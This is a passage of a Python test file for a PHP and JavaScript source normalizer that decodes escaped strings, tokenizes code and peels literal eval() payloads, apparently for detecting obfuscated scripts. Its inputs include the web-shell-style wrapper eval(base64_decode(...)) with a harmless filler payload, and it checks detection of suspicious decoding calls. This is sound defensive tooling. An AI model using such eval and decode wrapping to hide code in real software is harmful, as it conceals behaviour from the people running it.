    assert php_string_value('"\\x62\\x61\\x73\\x65\\x36\\x34"') == b"base64"
    assert php_string_value('"\\142\\141\\163"') == b"bas"
    assert php_string_value('"\\xff\\xfeA\\x41\\101\\u{263A}"') == b"\xff\xfeAAA\xe2\x98\xba"
    assert php_string_value('"\\x4g\\x41\\x42"') == b"\x04gAB"  # one digit, then a run
    assert php_string_value('"\\\\x41\\x42"') == b"\\x41B"  # an escaped backslash first


def test_php_string_text_is_the_decoded_value() -> None:
    assert php_string_text('"\\xe2\\x82\\xac \\xff"') == "\u20ac \ufffd"
    assert php_string_text("'a\\\\\\'b'") == "a\\'b"
    assert php_string_text('"plain $x"') is None  # interpolates
    assert php_string_text("<<<'E'\nnow\\x41\nE") == "now\\x41"
    assert php_string_text('"\\ud800"') == php_string_value('"\\ud800"').decode("utf-8", "replace")  # type: ignore[union-attr]


def test_a_big_quoted_literal_is_one_token() -> None:
    body = "QUJD" * 250_000
    toks = php_tokens(f"<?php eval(base64_decode('{body}'));")
    assert [(t.kind, len(t.text)) for t in toks[4:7]] == [
        (PhpKind.PUNCT, 1),
        (PhpKind.STR, len(body) + 2),
        (PhpKind.PUNCT, 1),
    ]
    # a backslash inside, or no closing quote: the pattern decides, as before
    assert [t.text for t in php_tokens("<?php 'a\\'b' 'c")[1:]] == ["'a\\'b'", "'c", ""]


def test_an_eval_payload_gets_another_round_only_inside_an_expression(monkeypatch: pytest.MonkeyPatch) -> None:
    rounds: list[int] = []
    real = normalize_module._php_round

    def counting(text: str, ctx: object, allowed: frozenset[str] | None) -> tuple[str, list[str]]:
        rounds.append(1)
        return real(text, ctx, allowed)  # type: ignore[arg-type]

    monkeypatch.setattr(normalize_module, "_php_round", counting)
    # a statement: peeled whole in round one, nothing left for round two
    assert php("<?php eval(\"echo 'b' . 'c';\"); run();") == (
        "<?php echo 'bc';; run();",
        ("php-eval-literal", "concat"),
    )
    assert len(rounds) == 1
    rounds.clear()
    # an operand of ``.``: the payload folds with its neighbour in round two
    assert php("<?php $s = 'x' . eval(\"'a'\");") == ("<?php $s = 'xa';", ("php-eval-literal", "concat"))
    assert len(rounds) == 2


# --- equivalences the faster code relies on -------------------------------------------------

_TOKEN_PIECES = [
    *"ab1_$ \n\t\r'\"`\\/*{}();.=-+<>!?#x0\ufeff",
    *("//", "/*", "*/", "${", "0x1f", "\\x41", "a/b/g", "return /x/", "`a${b}c`", "<?php ", "?>", "<?= "),
    *("<<<EOT\n", "\nEOT;\n", "<<<'X'\n", "\nX\n", "' . '", '" . "', "'a' /* c */ . \"b\"", "# c\n", "#[A]"),
]


def _reference_php_tokens(text: str, *, start_in_code: bool = False, coarse: bool = False) -> list[tuple[object, ...]]:
    """php_tokens as it was written first: one ``match`` of the token pattern (with the trivia group
    as first written too) per token."""
    current = (normalize_module._PHP_COARSE if coarse else normalize_module._PHP_TOKEN).pattern
    pattern = re.compile(
        r"(?P<tv>(?:\s+|(?://|#(?!\[))[^\n\r?]*(?:\?(?!>)[^\n\r?]*)*|/\*[\s\S]*?(?:\*/|\Z))*)"
        + current[current.index(")(?:(?P<close>") + 1 :]
    )
    kinds = normalize_module._PHP_KIND_BY_GROUP_COARSE if coarse else normalize_module._PHP_KIND_BY_GROUP
    groups = normalize_module._PHP_GROUPS
    toks: list[tuple[object, ...]] = []
    pos, n, code = 0, len(text), start_in_code
    while True:
        if not code:
            m = normalize_module._PHP_OPEN.search(text, pos)
            if m is None:
                if pos < n:
                    toks.append((PhpKind.HTML, text[pos:], "", pos))
                toks.append((PhpKind.EOF, "", "", n))
                return toks
            if m.start() > pos:
                toks.append((PhpKind.HTML, text[pos : m.start()], "", pos))
            toks.append((PhpKind.OPEN, m.group(), "", m.start()))
            pos, code = m.end(), True
            continue
        m = pattern.match(text, pos)
        assert m is not None
        g = m.lastindex or groups["other"]
        at, after = m.span(g)
        if g == groups["eof"]:
            toks.append((PhpKind.EOF, "", text[pos:at], n))
            return toks
        kind = kinds[g]
        if g == groups["close"]:
            code = False
        elif g == groups["hd"]:
            label = normalize_module._HEREDOC_LABEL.match(text, at).group(1)  # type: ignore[union-attr]
            cm = re.compile(r"^[ \t]*" + re.escape(label) + r"(?![A-Za-z0-9_\x80-\uffff])", re.M).search(text, after)
            after, kind = (n, PhpKind.BAD) if cm is None else (cm.end(), kind)
        elif g == groups["other"] and text[at] in "'\"`":
            after = n
        toks.append((kind, text[at:after], text[pos:at], at))
        pos = after


def test_php_tokens_match_one_pattern_match_per_token() -> None:
    rng = random.Random(5)
    for _ in range(3000):
        text = "".join(rng.choice(_TOKEN_PIECES) for _ in range(rng.randint(0, 30)))
        for options in ({}, {"start_in_code": True}, {"coarse": True}):
            assert [tuple(t) for t in php_tokens(text, **options)] == _reference_php_tokens(text, **options)


def test_js_trivia_pattern_takes_the_same_pieces() -> None:
    # the trivia group as first written: one loop over white space and comments
    pattern = normalize_module._JS_TOKEN.pattern
    first = re.compile(
        r"(?P<tv>(?:[\s\ufeff]++|//[^\n\r\u2028\u2029]*+|/\*[\s\S]*?(?:\*/|\Z))*+)"
        + pattern[pattern.index(")(?:(?P<p1>") + 1 :]
    )
    rng = random.Random(6)
    for _ in range(3000):
        text = "".join(rng.choice(_TOKEN_PIECES) for _ in range(rng.randint(0, 30)))
        ours = [(m.lastindex, m.span(), m.span(1)) for m in normalize_module._JS_TOKEN.finditer(text)]
        assert ours == [(m.lastindex, m.span(), m.span(1)) for m in first.finditer(text)]


def test_php_concat_spots_are_those_of_the_single_pattern() -> None:
    rng = random.Random(7)
    for _ in range(3000):
        text = "".join(rng.choice(_TOKEN_PIECES) for _ in range(rng.randint(0, 30)))
        start = rng.randint(0, 3)
        expected = [m.start() for m in normalize_module._PHP_HOT_CONCAT.finditer(text, start)]
        assert normalize_module._php_concat_positions(text, start) == expected


def test_php_hot_calls_are_found_by_shared_parts_as_by_each_name() -> None:
    pieces = [*normalize_module._PHP_HOT_NAMES, "BASE64_DECODE", "(", "('", "(1", " ", "x", "_", "decode", "str_r"]
    pieces += ["raw", "url", "/*c*/", "'", ".", "\\x41"]
    rng = random.Random(8)
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 12)))
        start = rng.randint(0, 4)
        low = text.lower()
        expected = [m.start() for m in normalize_module._PHP_HOT_ESCAPE.finditer(text, start)]
        expected += normalize_module._php_concat_positions(text, start)
        call_paren = normalize_module._PHP_CALL_PAREN
        for name in normalize_module._PHP_HOT_NAMES:  # each name searched for on its own
            i = low.find(name, start)
            while i >= 0:
                before = low[i - 1] if i else " "
                if not (before.isalnum() or before == "_") and call_paren.match(low, i + len(name)):
                    expected.append(i)
                i = low.find(name, i + len(name))
        assert normalize_module._php_hot_positions(text, start) == sorted(expected)
